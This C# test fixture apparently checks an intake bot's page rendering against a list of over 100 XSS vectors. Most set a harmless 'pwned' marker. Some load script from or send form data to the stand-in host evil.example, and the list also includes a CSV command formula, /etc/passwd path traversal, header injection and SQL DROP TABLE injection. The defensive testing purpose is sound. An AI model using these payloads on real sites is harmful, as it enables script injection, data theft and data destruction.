// Text that tries to become script, markup, a request or another reading order when a page shows it: stored cross-site scripting, 100 and more ways.
namespace IntakeBot.Tests.Practice;

public static class Vectors
{
    /// <summary>Each announces itself as `pwned` if it ever runs, or fetches from evil.example if it is ever followed by itself.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Text.Split('\n', StringSplitOptions.RemoveEmptyEntries), .. Made()];

    private static IEnumerable<string> Made()
    {
        foreach (var handler in "onload onerror onclick onmouseover onfocus onblur onanimationstart ontoggle onpointerenter onbeforeinput onscrollend oncut".Split(' '))
            yield return $"<b {handler}=\"window.pwned=1\" autofocus tabindex=1>x</b>";
        foreach (var tag in "img image video audio source track embed iframe frame object input link script".Split(' '))
            yield return $"<{tag} src=https://evil.example/{tag} href=https://evil.example/{tag} data=https://evil.example/{tag} onerror=pwned=1 rel=stylesheet type=image>";
        foreach (var gap in new[] { "\t", "\f", "\r", "\0", "/", "\u00a0", "\u2028", "\u000b" })
            yield return $"<img{gap}src=x{gap}onerror=pwned=1>";
        yield return "\u202e<script>pwned=1</script>\u202c";
        yield return "\ufeff<script>pwned=1</script>";
        yield return "\uff1cscript\uff1epwned=1\uff1c/script\uff1e";
        yield return "\ud800<script>pwned=1</script>";
        yield return "a\r\nSet-Cookie: pwned=1\r\n\r\n<script>pwned=1</script>";
        yield return new string('<', 3000) + "script>pwned=1</script>";
        yield return string.Concat(Enumerable.Repeat("<div>", 2000)) + "<script>pwned=1</script>";
    }

    private const string Text = """"
        <script>pwned=1</script>
        <SCRIPT SRC=https://evil.example/x.js></SCRIPT>
        <scr<script>ipt>pwned=1</scr</script>ipt>
        <script/src=data:,pwned=1></script>
        <script type=module>window.pwned=1</script>
        <script>/*</li></ol></section></main>*/pwned=1</script>
        </script><script>pwned=1</script>
        </title><script>pwned=1</script>
        </textarea><script>pwned=1</script>
        </style><script>pwned=1</script>
        </noscript><script>pwned=1</script>
        </li></ol></section></article></main></body></html><script>pwned=1</script>
        --><script>pwned=1</script>
        ]]><script>pwned=1</script>
        <!--><script>pwned=1</script>
        <![CDATA[<script>pwned=1</script>]]>
        <?php echo '<script>pwned=1</script>' ?>
        "><script>pwned=1</script>
        '><script>pwned=1</script>
        "><img src=x onerror=pwned=1>
        ' onmouseover='pwned=1
        " autofocus onfocus="pwned=1
        ` onmouseover=`pwned=1
        <img src=x onerror=pwned=1>
        <img src="x" onerror="&#112;wned=1">
        <img src=`x` onerror=pwned=1>
        <img """><script>pwned=1</script>">
        <img src=javascript:pwned=1>
        <img srcset="https://evil.example/s 1x">
        <image href=x onerror=pwned=1>
        <svg onload=pwned=1>
        <svg/onload=pwned=1>
        <svg><script>pwned=1</script></svg>
        <svg><script href=data:,pwned=1 /></svg>
        <svg><animate onbegin=pwned=1 attributeName=x dur=1s>
        <svg><set attributeName=onmouseover value=pwned=1>
        <svg><foreignObject><img src=x onerror=pwned=1></foreignObject></svg>
        <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwned=1</script></svg>#x">
        <svg><style><img src=x onerror=pwned=1></style></svg>
        <math><mtext><table><mglyph><style><img src=x onerror=pwned=1>
        <math href=javascript:pwned=1>x</math>
        <body onload=pwned=1>
        <body onpageshow=pwned=1>
        <iframe src=javascript:pwned=1></iframe>
        <iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
        <iframe src="data:text/html,<script>parent.pwned=1</script>"></iframe>
        <object data=javascript:pwned=1></object>
        <embed src=javascript:pwned=1>
        <applet code=https://evil.example/x></applet>
        <base href=https://evil.example/>
        <meta http-equiv=refresh content="0;url=https://evil.example/">
        <meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">
        <link rel=stylesheet href=https://evil.example/x.css>
        <link rel=prefetch href=https://evil.example/p>
        <link rel=dns-prefetch href=//evil.example>
        <style>@import 'https://evil.example/x.css';</style>
        <style>body{background:url(https://evil.example/b)}</style>
        <p style="background:url(https://evil.example/i)">x</p>
        <p style="width:expression(pwned=1)">x</p>
        <div style="position:fixed;inset:0;background:#fff">Nothing to worry about</div>
        <a href=javascript:pwned=1>x</a>
        <a href="java&#x09;script:pwned=1">x</a>
        <a href="JaVaScRiPt:pwned=1">x</a>
        <a href="data:text/html,<script>pwned=1</script>">x</a>
        <a href=vbscript:pwned>x</a>
        <a ping=https://evil.example/ href=#>x</a>
        <form action=https://evil.example/><button>Sign in</button></form>
        <form action=javascript:pwned=1><input type=submit></form>
        <button formaction=https://evil.example/>x</button>
        <input onfocus=pwned=1 autofocus>
        <input type=image src=https://evil.example/i>
        <select onfocus=pwned=1 autofocus></select>
        <textarea onfocus=pwned=1 autofocus></textarea>
        <keygen onfocus=pwned=1 autofocus>
        <details open ontoggle=pwned=1>
        <dialog open oncancel=pwned=1>
        <video poster=https://evil.example/p><source onerror=pwned=1></video>
        <audio src=x onerror=pwned=1>
        <marquee onstart=pwned=1>x</marquee>
        <table background=https://evil.example/t>
        <frameset onload=pwned=1>
        <isindex type=image src=1 onerror=pwned=1>
        <template><script>pwned=1</script></template>
        <noscript><p title="</noscript><img src=x onerror=pwned=1>">
        <xss id=x tabindex=1 onfocus=pwned=1></xss>
        <custom-element onclick=pwned=1>
        <b id=main>x</b><b id=sections data-title=pwned>x</b>
        <b class="level-emergency">x</b>
        &lt;script&gt;pwned=1&lt;/script&gt;
        &#60;script&#62;pwned=1&#60;/script&#62;
        &amp;lt;script&amp;gt;pwned=1
        %3Cscript%3Epwned=1%3C/script%3E
        \u003cscript\u003epwned=1\u003c/script\u003e
        \x3cscript\x3epwned=1\x3c/script\x3e
        +ADw-script+AD4-pwned=1+ADw-/script+AD4-
        {{constructor.constructor('pwned=1')()}}
        ${pwned=1}
        #{pwned=1}
        @(pwned=1) @{ pwned = 1; } @Html.Raw("<script>pwned=1</script>")
        <%= pwned=1 %>
        [click](javascript:pwned=1)
        ![x](https://evil.example/md.png)
        ![x](x"onerror="pwned=1)
        <https://evil.example/auto>
        [x]: https://evil.example/ref
        =HYPERLINK("https://evil.example/","x")
        =cmd|' /C calc'!A0
        javascript:pwned=1
        javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+pwned=1//'>
        '";!--"<XSS>=&{()}
        ..\..\..\etc\passwd ../../../etc/passwd
        '; DROP TABLE events; --
        """";
}
